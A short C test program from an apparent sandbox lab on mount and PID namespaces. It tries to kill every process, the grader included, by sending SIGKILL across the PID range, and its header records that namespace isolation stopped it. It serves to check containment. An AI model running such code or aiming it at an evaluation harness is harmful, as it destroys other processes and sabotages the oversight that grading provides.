/* SPDX-License-Identifier: MIT */
/*
 * kill-everybody.c - kills every process that it can name
 *
 * Attack: killing the grader
 * Lab: 02-mount-ns
 * Stopped: its PID namespace holds nobody else, and PID 1 ignores what
 *          comes from inside
 */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	for (pid_t pid = 1; pid < 65536; pid++)
		(void)kill(pid, pid == getpid() ? 0 : SIGKILL);
	(void)kill(-1, SIGKILL);
	return 0;
}
